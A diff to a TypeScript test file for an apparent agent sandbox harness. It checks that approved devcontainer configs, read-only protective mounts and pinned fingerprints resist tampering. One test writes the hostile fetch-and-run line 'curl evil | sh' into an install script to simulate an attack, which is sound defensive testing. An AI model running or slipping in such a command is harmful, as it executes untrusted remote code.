@@ -7,11 +7,15 @@ import assert from "node:assert/strict";
 import { mkdirSync, mkdtempSync, readFileSync, realpathSync, symlinkSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { execFileSync } from "node:child_process";
-import { join } from "node:path";
+import { basename, join } from "node:path";
 import { HarnessError } from "../../../extension/harness/errors.js";
 import { approveCurrent, ConfigApprovals, requireApproved } from "../../../extension/harness/sandbox/devcontainer/approvals.js";
 import { writeApprovedCopy } from "../../../extension/harness/sandbox/devcontainer/approvedCopy.js";
 import { readConfigSnapshot } from "../../../extension/harness/sandbox/devcontainer/configSnapshot.js";
+import { planProtection } from "../../../extension/harness/sandbox/devcontainer/protectedMounts.js";
+
+/** sha256 of deerflow-devcontainer-fingerprint/1 over the one config below, as approvals recorded it before issue 21. */
+const PINNED_FINGERPRINT = "4d382e7107f2cc2635d5c33bec1a1b21ea73daba9fd3f95f0cda38f95768c34c";
 
 function workspace(config: string, files: Record<string, string> = {}): string {
   const ws = realpathSync(mkdtempSync(join(tmpdir(), "deerflow-approval-ws-")));
@@ -135,7 +139,7 @@ test("approvals live in the data dir, never the workspace; an approval covers ex
   assert.throws(() => new ConfigApprovals(join(ws, "data"), ws), (err: unknown) => err instanceof HarnessError && /inside the workspace/.test(err.message));
 });
 
-test("the approved copy is written from the checked bytes: an edit after the check does not reach it", () => {
+test("the approved copy is written from the checked bytes: an edit after the check does not reach it", async () => {
   const ws = workspace(WITH_EVERYTHING, FILES);
   const approvals = new ConfigApprovals(dataDir(), ws);
   approveCurrent(approvals);
@@ -143,7 +147,8 @@ test("the approved copy is written from the checked bytes: an edit after the che
   // Between the check and `up`: the workspace's files change.
   writeFileSync(join(ws, ".devcontainer", "Dockerfile"), "FROM evil\n");
   writeFileSync(join(ws, ".devcontainer", "hello", "install.sh"), "curl evil | sh\n");
-  const copy = writeApprovedCopy(approvals, checked);
+  const plan = await planProtection(ws, checked.config);
+  const copy = writeApprovedCopy(approvals, checked, plan);
   assert.ok(copy.configPath.startsWith(approvals.dir));
   assert.ok(copy.configPath.endsWith("/.devcontainer/devcontainer.json"));
   const config = JSON.parse(readFileSync(copy.configPath, "utf8"));
@@ -153,4 +158,19 @@ test("the approved copy is written from the checked bytes: an edit after the che
   assert.equal(readFileSync(join(copy.configPath, "..", "hello", "install.sh"), "utf8"), "echo hello\n");
   assert.equal(config.initializeCommand, "bash .devcontainer/init.sh --fast");
   assert.deepEqual(copy.idLabels, [`devcontainer.local_folder=${ws}`, `devcontainer.config_file=${join(ws, ".devcontainer", "devcontainer.json")}`]);
+  // DeerFlow's own protection rides along: read-only mounts of the protected paths, and the label.
+  const target = `/workspaces/${basename(ws)}`;
+  assert.ok(config.mounts.includes(`type=bind,source=${join(ws, ".devcontainer")},target=${target}/.devcontainer,readonly`), JSON.stringify(config.mounts));
+  assert.ok(config.mounts.includes(`type=bind,source=${join(ws, ".git")},target=${target}/.git,readonly`), "an absent .git is a placeholder");
+  assert.deepEqual(config.runArgs.slice(-2), ["--label", `deerflow.protection=${plan.hash}`]);
+});
+
+test("the fingerprint is of the user's files only: an approval recorded before the read-only mounts existed still holds", () => {
+  // The mounts depend on the tree at each bring-up and are added to the copy, not to what is
+  // approved; this pins the fingerprint's shape so a change to it is a deliberate one.
+  const ws = workspace('{ "image": "local/debian-minbase:bookworm", "runArgs": ["--network", "none"] }\n');
+  assert.equal(readConfigSnapshot(ws).fingerprint, PINNED_FINGERPRINT);
+  mkdirSync(join(ws, ".vscode"));
+  writeFileSync(join(ws, ".vscode", "tasks.json"), "{}");
+  assert.equal(readConfigSnapshot(ws).fingerprint, PINNED_FINGERPRINT, "protected paths in the tree change nothing");
 });
